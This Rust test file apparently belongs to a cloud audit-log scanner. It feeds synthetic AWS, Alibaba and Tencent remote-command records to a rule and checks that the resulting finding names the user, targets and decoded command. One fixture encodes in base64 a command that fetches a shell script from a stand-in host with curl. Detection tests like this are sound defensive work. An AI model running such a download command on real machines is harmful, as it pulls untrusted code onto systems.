//! How a finding shows a command that was run on machines.

use serde_json::{Value, json};

use super::records::{SOURCE, alice, call};
use super::{of_rule, pack, scan};
use crate::run::Folder;

fn cloudtrail(api: &str, params: &Value) -> Value {
    call(&format!("ssm.{api}"), &alice(), json!({ "requestParameters": params }))
}

fn actiontrail(api: &str, params: &Value) -> Value {
    json!({
        "acsRegion": "cn-hangzhou",
        "eventId": "DAC2A365-54B5-4135-A343-E5D83C80642F",
        "eventName": api,
        "eventRW": "Write",
        "eventSource": "ecs.aliyuncs.com",
        "eventTime": "2026-10-07T03:20:05Z",
        "eventType": "ApiCall",
        "eventVersion": "1",
        "recipientAccountId": "1234567890123456",
        "requestId": "DAC2A365-54B5-4135-A343-E5D83C80642F",
        "requestParameters": params,
        "serviceName": "Ecs",
        "sourceIpAddress": SOURCE,
        "userAgent": "AlibabaCloud (Linux; amd64) Golang/1.24.6 Core/0.01 TeaDSL/1",
        "userIdentity": {
            "accountId": "1234567890123456",
            "type": "ram-user",
            "accessKeyId": "LTAIexample0000000000001",
            "principalId": "281234567890123456",
            "userName": "alice",
        },
    })
}

fn cloudaudit(api: &str, params: &Value) -> Value {
    json!({
        "userIdentity": {
            "principalId": "100000000002",
            "accountId": "100000000001",
            "sessionContext": "",
            "type": "CAMUser",
            "userName": "alice",
            "secretId": "AKIDexample0000000000000000000000001",
        },
        "eventRegion": "ap-guangzhou",
        "eventVersion": 2,
        "errorCode": 0,
        "requestID": "aa0204d9-4d2c-4e36-a1f0-131683767a69",
        "eventID": "aa0204d9-4d2c-4e36-a1f0-131683767a69",
        "eventType": "ApiCall",
        "actionType": "Write",
        "apiErrorCode": "",
        "userAgent": "SDK_PYTHON_3.0.1405",
        "eventTime": 1_791_343_900,
        "sourceIPAddress": SOURCE,
        "eventSource": "tat.ap-guangzhou.api.tencentyun.com",
        // As in the log: JSON inside a text.
        "requestParameters": params.to_string(),
        "responseElements": "",
        "resourceType": "tat",
        "eventName": api,
    })
}

#[test]
fn a_finding_names_the_command_and_its_targets() {
    type Record = fn(&str, &Value) -> Value;
    // The end of the message, after the user, the operation and the source.
    let cases: [(Record, &str, Value, &str); 9] = [
        (
            cloudtrail,
            "SendCommand",
            json!({ "instanceIds": ["i-1"], "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS" }),
            r#"on ["i-1"]: HIDDEN_DUE_TO_SECURITY_REASONS"#,
        ),
        (
            cloudtrail,
            "SendCommand",
            json!({ "instanceIds": ["i-1", "i-2"], "parameters": { "commands": ["id"] } }),
            r#"on ["i-1","i-2"]: ["id"]"#,
        ),
        (cloudtrail, "StartSession", json!({ "target": "i-1" }), "on i-1: command not in the log"),
        (
            actiontrail,
            "RunCommand",
            json!({
                "InstanceId.1": "i-bp1",
                "ContentEncoding": "Base64",
                "CommandContent": "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy9iLnNo",
            }),
            "on i-bp1: curl -s http://198.51.100.23/b.sh",
        ),
        (
            actiontrail,
            "RunCommand",
            json!({ "InstanceId.1": "i-bp1", "CommandContent": "whoami00" }),
            "on i-bp1: whoami00",
        ),
        (
            actiontrail,
            "InvokeCommand",
            json!({ "CommandId": "c-hz01" }),
            "on machines not named in the log: command not in the log",
        ),
        (
            cloudaudit,
            "RunCommand",
            json!({ "InstanceIds": ["ins-1"], "Content": "d2hvYW1p\nCg==" }),
            "on [\"ins-1\"]: whoami\n",
        ),
        (
            cloudaudit,
            "RunCommand",
            json!({ "InstanceIds": ["ins-1"], "Content": "not in base64" }),
            r#"on ["ins-1"]: command not in the log"#,
        ),
        (
            cloudaudit,
            "InvokeCommand",
            json!({ "InstanceIds": ["ins-1"], "CommandId": "cmd-1" }),
            r#"on ["ins-1"]: command not in the log"#,
        ),
    ];
    let pack = pack();
    for (number, (record, api, params, expected)) in cases.into_iter().enumerate() {
        let record = record(api, &params).to_string();
        let folder = Folder::new(&format!("command-{number}")).file("a.json", record.clone());
        let report = scan(&pack, &[&folder.path("a.json")], None);
        let found = of_rule(&report, "remote-execution");
        let messages: Vec<&str> = found.iter().map(|finding| finding.message.as_str()).collect();
        let [message] = messages[..] else { panic!("{messages:?}: {record}") };
        assert!(message.starts_with("alice ran "), "{message}");
        assert!(message.ends_with(&format!(" from {SOURCE} {expected}")), "{message}: {expected}");
    }
}
